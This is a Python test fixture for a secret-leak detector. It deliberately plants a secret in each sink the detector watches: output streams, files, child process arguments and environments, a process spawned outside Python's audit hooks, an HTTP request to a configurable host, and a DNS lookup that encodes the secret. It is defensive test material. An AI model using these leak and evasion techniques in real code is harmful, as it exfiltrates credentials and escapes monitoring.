"""Leaks on purpose, one for each sink: the proof that the hunt would find them.

Most happen within the engine's own process (traced_engine.py runs this file, so it imports the
standard library alone). A secret for each sink, and all other inputs, come by one variable that no
other process gets. The others happen on servers, when the engine has ended.
"""

from __future__ import annotations

import atexit
import base64
import http.client
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

VARIABLE = "HUNT_PLANTS"
HOST, ELSEWHERE, BUG = "host", "elsewhere", "bug"  # keys of that variable besides the sinks


def plant() -> None:
    """Leak a secret into each sink that has one, now or when the engine ends."""
    given = json.loads(os.environ.pop(VARIABLE, "{}"))
    for sink, leak in _PLANTS.items():
        if sink in given:
            leak(given[sink], given)
    if BUG in given:
        sys.addaudithook(_raising(given[BUG]))


def _raising(words: str) -> Callable[[str, tuple[object, ...]], None]:
    """A function that makes the engine's third connection, or child, raise an unexpected error."""
    left = iter([True, True])

    def hook(event: str, _arguments: tuple[object, ...]) -> None:
        if event in ("socket.connect", "subprocess.Popen") and not next(left, False):
            raise RuntimeError(words)

    return hook


def _result_file() -> Path:
    return Path(sys.argv[sys.argv.index("--result") + 1])


def _into_result(secret: str, _given: dict[str, str]) -> None:
    def add() -> None:
        data = json.loads(_result_file().read_text())
        _result_file().write_text(json.dumps({**data, "summary": f"pushed by robot:{secret}"}))

    atexit.register(add)


def _into_file(target: Callable[[dict[str, str]], Path]) -> Callable[[str, dict[str, str]], None]:
    def write(secret: str, given: dict[str, str]) -> None:
        path = target(given)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(base64.b64encode(f"robot:{secret}".encode()))

    return write


def _for_a_while(secret: str, given: dict[str, str]) -> None:
    """Write the secret to a private file that is not the one for it."""
    folder = Path(os.environ["TMPDIR"], "towline-planted")
    folder.mkdir(mode=0o700)
    _into_file(lambda _: folder / "config")(secret, given)
    atexit.register(shutil.rmtree, folder)


def _beside_the_hook(secret: str, _given: dict[str, str]) -> None:
    """Start a process without Python's hooks, so that no event tells of it."""
    child = os.posix_spawn("/bin/sleep", ["sleep", "600"], {"TOKEN": secret})
    atexit.register(os.waitpid, child, 0)
    atexit.register(os.kill, child, signal.SIGKILL)


def _to_stranger(secret: str, given: dict[str, str]) -> None:
    connection = http.client.HTTPConnection(given[HOST], timeout=60)
    connection.request("GET", "/", headers={"Authorization": f"Bearer {secret.encode().hex()}"})
    connection.getresponse().read()
    connection.close()


def _as_name(secret: str, _given: dict[str, str]) -> None:
    with suppress(OSError):
        socket.getaddrinfo(f"{secret.encode().hex()[:60]}.invalid", 80)


_PLANTS: dict[str, Callable[[str, dict[str, str]], object]] = {
    "standard output": lambda secret, _: atexit.register(print, json.dumps({"password": secret})),
    "standard error": lambda secret, _: atexit.register(
        print, f"refused: robot:{secret}"[:40], file=sys.stderr
    ),
    "result": _into_result,
    "request's folder": _into_file(lambda _: _result_file().with_name("left")),
    "workspace": _into_file(lambda _: Path(".pipeline/left")),
    "home": _into_file(lambda _: Path(os.environ["HOME"], ".cache/left")),
    "temporary folder": _into_file(lambda _: Path(os.environ["TMPDIR"], "left")),
    "elsewhere on the machine": _into_file(lambda given: Path(given[ELSEWHERE])),
    "files while it runs": _for_a_while,
    "arguments of children": lambda secret, _: subprocess.run(
        ["/bin/true", f"--password={secret}"], env={}, check=True
    ),
    "environments of children": lambda secret, _: subprocess.run(
        ["/bin/true"], env={"PASSWORD": secret}, check=True
    ),
    "process table": _beside_the_hook,
    "traffic": _to_stranger,
    "names that are asked for": _as_name,
}

ON_SERVERS = ("git objects", "pushed images")
